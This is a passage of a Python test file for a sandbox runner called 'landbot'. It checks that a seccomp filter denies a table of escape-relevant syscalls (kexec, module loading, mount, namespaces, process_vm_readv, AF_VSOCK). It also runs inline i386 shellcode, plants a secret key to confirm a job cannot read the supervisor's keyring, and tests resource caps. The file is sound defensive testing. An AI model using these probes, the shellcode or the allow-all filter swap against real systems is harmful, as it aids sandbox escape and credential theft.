    ("process_vm_readv", ["PID", 0, 0, 0, 0, 0], False, EPERM),
    ("process_vm_writev", ["PID", 0, 0, 0, 0, 0], False, EPERM),
    ("kexec_load", [0, 1000, 0, 0xFFFF0000], True, EPERM),
    ("kexec_file_load", [-1, -1, 0, 0, 0xFFFF], True, EPERM),
    ("init_module", [0, 0, ""], True, EPERM),
    ("finit_module", [-1, "", 0], True, EPERM),
    ("delete_module", ["landbot_no_such_module", 0], True, EPERM),
    ("mount", ["none", "/nonexistent-landbot", "tmpfs", 0, 0], True, EPERM),
    ("umount2", ["/nonexistent-landbot", 0], True, EPERM),
    ("pivot_root", ["/nonexistent-landbot", "/nonexistent-landbot"], True, EPERM),
    ("open_tree", [-100, "/nonexistent-landbot", 0], True, EPERM),
    ("move_mount", [-1, "", -1, "", 0], True, EPERM),
    ("fsopen", ["landbot-no-such-fs", 0], True, EPERM),
    ("fsconfig", [-1, 0, 0, 0, 0], False, EPERM),
    ("fsmount", [-1, 0, 0], True, EPERM),
    ("fspick", [-100, "/nonexistent-landbot", 0], True, EPERM),
    ("mount_setattr", [-1, "", 0, 0, 0], False, EPERM),
    ("unshare", [CLONE_NEWUSER], False, EPERM),
    ("setns", [-1, 0], False, EPERM),
    ("clone", [CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0], False, EPERM),
    ("clone3", [0, 0], False, ENOSYS),
    ("swapon", ["/nonexistent-landbot", 0], True, EPERM),
    ("swapoff", ["/nonexistent-landbot"], True, EPERM),
    ("reboot", [0, 0, 0, 0], True, EPERM),  # wrong magic: EINVAL for root
    ("acct", ["/nonexistent-landbot"], True, EPERM),
    ("open_by_handle_at", [-1, "BUF", 0], True, EPERM),
    ("name_to_handle_at", [-100, "/", "BUF", "BUF", 0], False, EPERM),
    ("syslog", [10, 0, 0], True, EPERM),  # SYSLOG_ACTION_SIZE_BUFFER
    ("personality", [0x0040000], False, EPERM),  # ADDR_NO_RANDOMIZE
    ("socket", [38, 5, 0], False, EAFNOSUPPORT),  # AF_ALG
    ("socket", [40, 1, 0], False, EAFNOSUPPORT),  # AF_VSOCK: the hypervisor, past netns
]


def _label(i: int) -> str:
    return f"{SYSCALLS[i][0]}#{i}"


def _probe(h: Any, work: Path, indices: list[int], **kw: Any) -> dict[str, int]:
    """label -> errno of each probed call (0: it succeeded)."""
    import json

    calls = json.dumps([[_label(i), SYSCALLS[i][0], SYSCALLS[i][1]] for i in indices])
    argv = ["python3", "-c", SYSCALL_PROBE, calls]
    if kw.pop("confined", False):
        result = h.confined(argv, work)
        out, err = h.text(result.stdout), h.text(result.stderr)
    else:
        done = h.unconfined(argv, work, **kw)
        out, err = done.stdout, done.stderr
    assert "PROBE-RAN" in out, err  # the marker: the probe itself ran to its end
    return {p[1]: int(p[2]) for p in (line.split() for line in out.splitlines()) if len(p) == 3}


def test_kernel_surfaces_a_build_never_needs_are_denied(box: Any, h: Any) -> None:
    everything = list(range(len(SYSCALLS)))
    controls = _probe(h, box.work, [i for i in everything if not SYSCALLS[i][2]])
    controls |= _probe(h, box.work, [i for i in everything if SYSCALLS[i][2]], as_root=True)
    for i in everything:
        if SYSCALLS[i][0] == "socket" and controls[_label(i)] == EAFNOSUPPORT:
            print(f"note: this kernel has no address family {SYSCALLS[i][1][0]}: no control")
            del controls[_label(i)]
    # ENOSYS unconfined: this kernel lacks the call (no kexec, no modules); inside it must
    # still be EPERM, which only the filter answers.
    refused = {
        _label(i): controls[_label(i)]
        for i in everything
        if controls.get(_label(i)) in (EPERM, SYSCALLS[i][3])
    }
    assert not refused, f"controls refused unconfined: {refused}"

    inside = _probe(h, box.work, everything, confined=True)
    wrong = {
        _label(i): inside.get(_label(i))
        for i in everything
        if inside.get(_label(i)) != SYSCALLS[i][3]
    }
    assert not wrong, f"not denied inside (label: errno): {wrong}"


def test_the_job_runs_under_a_seccomp_filter(box: Any, h: Any) -> None:
    control = h.unconfined(["grep", "^Seccomp:", "/proc/self/status"], box.work)
    assert control.stdout.split() == ["Seccomp:", "0"]
    result = h.confined(["grep", "^Seccomp:", "/proc/self/status"], box.work)
    assert h.text(result.stdout).split() == ["Seccomp:", "2"]


def test_a_32_bit_program_meets_the_same_filter(box: Any, h: Any) -> None:
    """i386 syscalls (int 0x80) from a 64-bit process: keyctl is 288 there."""
    code = (
        "import ctypes, mmap\n"
        # mov eax,288; mov ebx,0; mov ecx,-3; mov edx,1; int 0x80; ret
        "sc = bytes.fromhex('b820010000bb00000000b9fdffffffba01000000cd80c3')\n"
        "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "m.write(sc)\n"
        "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
        "print('I386', f())\n"
    )
    if os.uname().machine != "x86_64":
        pytest.skip("the i386 compat probe is x86_64 machine code")
    control = h.unconfined(["python3", "-c", code], box.work)
    assert control.returncode == 0 and int(control.stdout.split()[1]) > 0  # a keyring id

    result = h.confined(["python3", "-c", code], box.work)
    assert h.text(result.stdout).split() == ["I386", str(-EPERM)], h.text(result.stderr)


# --- the session keyring -------------------------------------------------------------------

KEYRING_HOST = r"""
import ctypes, os, subprocess, sys
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
tag = sys.argv[2]
# A session keyring of this test's own (the pytest process's is left alone), holding a key
# the way an operator's login session or an agent's credential helper would.
assert libc.syscall(250, 1, b"landbot-test-session") > 0
assert libc.syscall(248, b"user", f"landbot-planted-{tag}".encode(), b"SECRET", 6, -3) > 0
if sys.argv[1] == "control":
    out = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                          "cat", "/proc/keys"], capture_output=True, text=True).stdout
else:
    from landbot.sandbox.runner import run_sandboxed
    r = run_sandboxed(["sh", "-c", "echo KEYS-RAN; cat /proc/keys"], Path(sys.argv[3]),
                      timeout=30, memory_mb=256, capture=True)
    out = r.stdout.decode()
print(out)
"""

# The keyring alone, behind an allow-all seccomp program (one BPF instruction: RET ALLOW),
# since the real filter denies keyctl and would hide whether the keyring is new.
KEYRING_LAYER = r"""
import ctypes, os, struct, sys
from pathlib import Path
import landbot.sandbox.runner as runner
libc = ctypes.CDLL(None, use_errno=True)
assert libc.syscall(250, 1, b"landbot-test-session") > 0  # KEYCTL_JOIN_SESSION_KEYRING
print("HOST", libc.syscall(250, 0, -3, 0))  # KEYCTL_GET_KEYRING_ID of @s
def allow_all():
    fd = os.memfd_create("allow-all")
    os.write(fd, struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000))
    os.lseek(fd, 0, 0)
    return fd
runner.program_fd = allow_all
probe = "import ctypes; print('JOB', ctypes.CDLL(None).syscall(250, 0, -3, 0))"
r = runner.run_sandboxed(["python3", "-c", probe], Path(sys.argv[1]), timeout=30,
                         memory_mb=256, capture=True)
print(r.stdout.decode(), r.stderr.decode())
"""


def test_the_supervisors_session_keyring_is_not_the_jobs(box: Any, h: Any) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("the probe uses x86_64 syscall numbers")
    tag = secrets.token_hex(4)
    control = subprocess.run(
        [sys.executable, "-c", KEYRING_HOST, "control", tag],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert f"landbot-planted-{tag}" in control.stdout, control.stderr

    confined = subprocess.run(
        [sys.executable, "-c", KEYRING_HOST, "confined", tag, str(box.work)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "KEYS-RAN" in confined.stdout, confined.stderr
    assert f"landbot-planted-{tag}" not in confined.stdout
    assert "_ses" in confined.stdout  # the job's own, new session keyring

    # The keyring step on its own: the job's session keyring is another one than the
    # supervisor's (without the step, the job inherits the same serial).
    layer = subprocess.run(
        [sys.executable, "-c", KEYRING_LAYER, str(box.work)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    found = dict(
        line.split()[:2] for line in layer.stdout.splitlines() if line.startswith(("HOST", "JOB"))
    )
    assert set(found) == {"HOST", "JOB"}, layer.stdout + layer.stderr
    assert int(found["HOST"]) > 0 and int(found["JOB"]) > 0
    assert found["JOB"] != found["HOST"]


# --- caps: CPU, /tmp, output ------------------------------------------------------------


BURN = "n = 0\nfor i in range(6_000_000):\n    n += i\nprint('burned')\n"


def test_a_cpu_burning_job_gets_at_most_its_quota(box: Any, h: Any) -> None:
    # Control: a cap above what one thread can use is never reached.
    control = h.confined(["python3", "-c", BURN], box.work, cpus=4)
    assert "burned" in h.text(control.stdout)
    assert control.cpu_throttled == 0 and (control.cpu_periods or 0) > 0

    result = h.confined(["python3", "-c", BURN], box.work, cpus=0.2)
    assert "burned" in h.text(result.stdout)
    assert (result.cpu_throttled or 0) > 0, result


def test_the_private_tmp_and_home_are_size_capped(box: Any, h: Any) -> None:
    fill = "head -c 20000000 /dev/zero > {}/fill && echo FILLED-{}"
    script = f"echo TMP-RAN; {fill.format('$TMPDIR', 'tmp')}; {fill.format('$HOME', 'home')}"
    control = h.confined(["sh", "-c", script], box.work, tmp_mb=64)
    assert h.text(control.stdout).split() == ["TMP-RAN", "FILLED-tmp", "FILLED-home"]

    result = h.confined(["sh", "-c", script], box.work, tmp_mb=8)
    assert h.text(result.stdout).split() == ["TMP-RAN"]
    assert h.text(result.stderr).count("No space left on device") == 2


OUTPUT_HOST = r"""
import subprocess, sys
from pathlib import Path
from landbot.sandbox.runner import run_sandboxed
def hwm():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
before = hwm()
job = ["sh", "-c", "yes | head -c 200000000; echo '{\"verdict\": \"fixed\"}'"]
if sys.argv[1] == "control":  # the old way: communicate() keeps everything
    out = subprocess.run(job, capture_output=True).stdout
    kept, dropped = len(out), 0
else:
    r = run_sandboxed(job, Path(sys.argv[2]), timeout=120, memory_mb=256, capture=True)
    out, kept, dropped = r.stdout, len(r.stdout), r.stdout_dropped
print(hwm() - before, kept, dropped, out.splitlines()[-1].decode())
"""


def test_a_flood_of_output_does_not_grow_landbots_memory(box: Any, h: Any) -> None:
    control = subprocess.run(
        [sys.executable, "-c", OUTPUT_HOST, "control"], capture_output=True, text=True
    )
    grew, kept, _, last = control.stdout.split(maxsplit=3)
    assert int(grew) > 150_000_000 and int(kept) > 200_000_000, control.stderr

    confined = subprocess.run(
        [sys.executable, "-c", OUTPUT_HOST, "confined", str(box.work)],
        capture_output=True,
        text=True,
    )
    grew, kept, dropped, last = confined.stdout.split(maxsplit=3)
    assert int(grew) < 8_000_000, confined.stdout[:200]
    assert int(kept) == 1 << 20 and int(kept) + int(dropped) == 200_000_000 + 21
    assert last.strip() == '{"verdict": "fixed"}'  # the tail holds the verdict line
